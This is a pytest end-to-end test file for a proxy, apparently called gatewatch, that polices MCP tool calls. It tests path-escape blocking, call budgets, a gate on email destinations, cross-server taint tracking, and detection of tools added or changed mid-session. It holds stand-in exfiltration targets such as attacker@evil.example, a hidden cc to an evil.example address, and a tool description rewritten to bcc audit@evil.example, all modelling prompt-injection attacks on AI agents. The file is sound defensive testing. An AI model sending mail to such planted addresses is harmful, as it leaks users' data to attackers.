"""The engine through the real proxy: `gatewatch run` between the mcp SDK client and real
servers (the npm filesystem server, tests/upstreams/mail_server.py).

The injection detector is switched off in settings.yaml so each test sees the engine's own
verdicts; with no elicitation and no tray app, an ask falls through the ask chain to deny.
"""

from __future__ import annotations

import json
import sqlite3
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.support import GATEWATCH, child_env, npm_server, upstream

pytestmark = pytest.mark.e2e

BLOCKED = "[gatewatch blocked]"


@pytest.fixture(autouse=True)
def no_detector(gw_home: Path) -> None:
    (gw_home / "config").mkdir(exist_ok=True)
    (gw_home / "config" / "settings.yaml").write_text("detector: false\n")


@asynccontextmanager
async def proxied(
    name: str, command: list[str], policy: Path | None = None, env: dict[str, str] | None = None
) -> AsyncIterator[Any]:
    from mcp import Client, StdioServerParameters

    argv = [*GATEWATCH, "run", "--name", name]
    if policy is not None:
        argv += ["--policy", str(policy)]
    argv += ["--", *command]
    params = StdioServerParameters(command=argv[0], args=argv[1:], env=child_env(env))
    async with Client(params, mode="legacy") as client:
        await client.list_tools()
        yield client


async def call(client: Any, tool: str, args: dict[str, Any]) -> tuple[bool, str]:
    result = await client.call_tool(tool, args)
    text = "".join(getattr(block, "text", "") for block in result.content)
    return bool(result.is_error), text


def audited(db_file: Path, tool: str) -> list[tuple[str, str, str | None]]:
    db = sqlite3.connect(db_file)
    try:
        rows = db.execute(
            "SELECT verdict, contract, decided_by FROM events WHERE tool = ? AND direction = 'c2s'"
            " AND kind = 'request' ORDER BY id", (tool,)
        ).fetchall()
    finally:
        db.close()
    return [tuple(r) for r in rows]


def reasons(db_file: Path, tool: str) -> list[tuple[str, str, str]]:
    """The engine's own verdicts (the client only sees the ask chain's final answer)."""
    db = sqlite3.connect(db_file)
    try:
        rows = db.execute(
            "SELECT verdict, contract, reason FROM events WHERE tool = ? AND direction = 'c2s'"
            " AND kind = 'request' ORDER BY id", (tool,)
        ).fetchall()
    finally:
        db.close()
    return [tuple(r) for r in rows]


# -- filesystem ---------------------------------------------------------------------------


async def test_filesystem_escapes_and_budget_never_reach_the_disk(tmp_path, db_file):
    root = tmp_path / "root"
    out = root / "out"
    secret = root / "secret"
    out.mkdir(parents=True)
    secret.mkdir()
    (out / "link").symlink_to(secret)
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        f"servers:\n  fs:\n    allowed_paths: [{str(out)!r}]\n"
        "    tools:\n      write_file: {max_calls: 5}\n"
    )
    # The server itself may write anywhere under root: every deny below is Gatewatch's.
    async with proxied("fs", [npm_server("filesystem"), str(root)], policy) as client:
        assert await call(client, "write_file", {"path": str(out / "note1.txt"),
                                                 "content": "one"}) == (False, await _ok(out))
        for escape in [root / "outside.txt", f"{out}/../escape.txt", out / "link" / "x.txt"]:
            is_error, text = await call(client, "write_file", {"path": str(escape),
                                                               "content": "nope"})
            assert is_error and text.startswith(BLOCKED) and "outside the allowed paths" in text
        assert (await call(client, "write_file", {"path": str(out / "note2.txt"),
                                                  "content": "two"}))[0] is False
        is_error, text = await call(client, "write_file", {"path": str(out / "note3.txt"),
                                                           "content": "three"})
        assert is_error and "call budget 5" in text
    assert sorted(p.name for p in root.rglob("*") if p.is_file()) == ["note1.txt", "note2.txt"]
    assert [c for _v, c, _d in audited(db_file, "write_file")] == [
        "default", "constraint", "constraint", "constraint", "default", "budget"]


async def _ok(out: Path) -> str:
    return f"Successfully wrote to {out / 'note1.txt'}"


# -- mail ---------------------------------------------------------------------------------

MAIL_POLICY = """
servers:
  "*":
    tools:
      send_email:
        exfiltrating: true
        sink_params: [to, cc]
        trusted_destinations: ["*@corp.example"]
"""


def sent(outbox: Path) -> list[dict[str, Any]]:
    if not outbox.exists():
        return []
    return [json.loads(line) for line in outbox.read_text().splitlines()]


async def test_mail_flows_through_the_sink_gate(tmp_path, db_file):
    policy = tmp_path / "policy.yaml"
    policy.write_text(MAIL_POLICY)
    outbox = tmp_path / "outbox.jsonl"
    env = {"MAIL_OUTBOX": str(outbox)}
    async with proxied("mail", upstream("mail_server"), policy, env) as client:
        assert (await call(client, "read_inbox", {}))[0] is False
        base = {"subject": "Q3", "body": "numbers"}
        planted = await call(client, "send_email", {"to": ["attacker@evil.example"], **base})
        assert planted[0] and "came from untrusted text in output of mail.read_inbox" in (
            planted[1])
        trusted = await call(client, "send_email", {"to": ["boss@corp.example"], **base})
        assert trusted == (False, "sent to boss@corp.example")
        unproven = await call(client, "send_email", {"to": ["someone@else.example"], **base})
        assert unproven[0] and unproven[1].startswith(BLOCKED)
        hidden = await call(client, "send_email", {
            "to": ["boss@corp.example"],
            "cc": ["cfo@corp.example", "billing-archive@evil.example"], **base})
        assert hidden[0] and "cc[1]='billing-archive@evil.example'" in hidden[1]
    assert [m["to"] for m in sent(outbox)] == [["boss@corp.example"]]
    assert audited(db_file, "send_email") == [
        ("deny", "sink_gate", "rules"), ("allow", "sink_gate", "rules"),
        ("ask", "sink_gate", "rules"), ("deny", "sink_gate", "rules")]


async def test_cross_server_taint_between_two_proxies(tmp_path, db_file):
    policy = tmp_path / "policy.yaml"
    policy.write_text(MAIL_POLICY)
    outbox = tmp_path / "outbox.jsonl"
    env = {"MAIL_OUTBOX": str(outbox)}
    async with proxied("inbox", upstream("mail_server"), policy, env) as reader, proxied(
        "outbox", upstream("mail_server"), policy, env
    ) as sender:
        assert (await call(reader, "read_inbox", {}))[0] is False
        is_error, text = await _wait_for_deny(sender)
        assert is_error and "in output of inbox.read_inbox" in text
    assert sent(outbox) == []


async def _wait_for_deny(sender: Any) -> tuple[bool, str]:
    # The reader's taint reaches the database through its audit writer's batch; poll the
    # sender's verdict until it is the deny (or time out), never a fixed sleep.
    import asyncio

    args = {"to": ["attacker@evil.example"], "subject": "s", "body": "b"}
    deadline = asyncio.get_running_loop().time() + 10
    while True:
        is_error, text = await call(sender, "send_email", args)
        if "came from untrusted text" in text or asyncio.get_running_loop().time() > deadline:
            return is_error, text
        assert is_error, "an unproven destination must never be sent"
        await asyncio.sleep(0.1)


# -- pinning ------------------------------------------------------------------------------


async def test_tool_added_mid_session_and_changed_description_are_caught(tmp_path, db_file):
    policy = tmp_path / "policy.yaml"
    policy.write_text(MAIL_POLICY)
    outbox = tmp_path / "outbox.jsonl"
    env = {"MAIL_OUTBOX": str(outbox)}
    async with proxied("mail", upstream("mail_server"), policy, env) as client:
        args = {"to": ["boss@corp.example"], "subject": "s", "body": "b"}
        assert (await call(client, "send_email", args))[0] is False
        assert (await call(client, "add_tool", {}))[0] is False
        names = {t.name for t in (await client.list_tools()).tools}
        assert "wipe_mailbox" in names
        is_error, text = await call(client, "wipe_mailbox", {})
        assert is_error and text.startswith(BLOCKED)  # asked; nobody to ask, so denied
        assert (await call(client, "reword", {}))[0] is False
        await client.list_tools()
        is_error, text = await call(client, "send_email", args)
        assert is_error and text.startswith(BLOCKED)
    assert len(sent(outbox)) == 1
    assert reasons(db_file, "wipe_mailbox") == [
        ("ask", "pinning", "mail.wipe_mailbox is new since first approval")]
    assert reasons(db_file, "send_email")[-1] == (
        "ask", "pinning", "mail.send_email is changed since it was approved")
    db = sqlite3.connect(db_file)
    pending = db.execute("SELECT pending_description FROM pins WHERE tool = 'send_email'")
    assert "bcc audit@evil.example" in pending.fetchone()[0]
